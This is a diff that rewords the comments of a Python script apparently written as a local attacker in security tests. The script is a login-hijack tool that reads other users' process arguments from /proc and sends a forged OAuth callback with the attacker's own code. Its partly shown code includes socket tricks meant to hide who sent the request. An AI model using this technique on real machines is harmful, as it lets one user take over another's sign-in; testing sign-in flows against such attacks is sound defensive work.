@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
-"""Another user of the machine, who wants a sign-in of someone else to end in an account of their own.
+"""Another user of the machine, who tries to make another user's sign-in end in the attacker's account.
 
-As a command, run as that user: reads {"user", "start", "callback", "host"} as JSON from standard input, tries everything, and prints what came
-of it. The callback holds the right `state` and a code of the stranger's own account.
+As a command, run as that user: reads {"user", "start", "callback", "host"} as JSON from standard input, tries everything, and prints the
+results. The callback contains the correct `state` and a code for the attacker's own account.
 """
 import contextlib
 import json
@@ -12,12 +12,12 @@ import struct
 import sys
 from urllib.parse import urlsplit
 
-# Not among Python's names.
+# Not defined in Python.
 SO_BINDTODEVICE = 25
 
 
 def arguments_of(user):
-    """The argument lists of a user's processes, as `ps` shows them to everyone."""
+    """Returns the argument lists of a user's processes, as `ps` shows them to everyone."""
     found = []
     for entry in filter(str.isdigit, os.listdir("/proc")):
         with contextlib.suppress(OSError):
@@ -28,7 +28,7 @@ def arguments_of(user):
 
 
 def uid_of(process):
-    """Also of a process that hides behind root."""
+    """Returns the user ID of a process, even if its files in /proc belong to root."""
     with open(f"/proc/{process}/status") as file:
         return next(int(line.split()[1]) for line in file if line.startswith("Uid:"))
 
@@ -51,7 +51,7 @@ def connect(parts, family=socket.AF_INET, address=None, source=None, device=None
 
 
 def answer(connection):
-    """The status, and whether a Location is there; what was read before the other side reset the connection counts."""
+    """Returns the status, and whether there is a Location; data read before the other side reset the connection counts."""
     text = b""
     with contextlib.suppress(ConnectionError):
         while piece := connection.recv(65536):
@@ -70,14 +70,14 @@ def ask(url, half_closes=False, **options):
 
 
 def vanish(url, resets=False, lingers=None, through=None):
-    """Sends the request and is gone before anyone can look who it was."""
+    """Sends the request and closes the connection before anyone can check who sent it."""
     parts, bytes_ = request(url)
     connection = connect(parts)
     if lingers is not None:
         connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_LINGER2, lingers)
     connection.sendall(bytes_)
     if through:
-        # What is sent from now on leaves by another interface, and never arrives: not even the end of the connection.
+        # From now on, packets leave through another interface, and never arrive, not even the end of the connection.
         with contextlib.suppress(OSError):
             connection.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, through.encode())
     if resets:
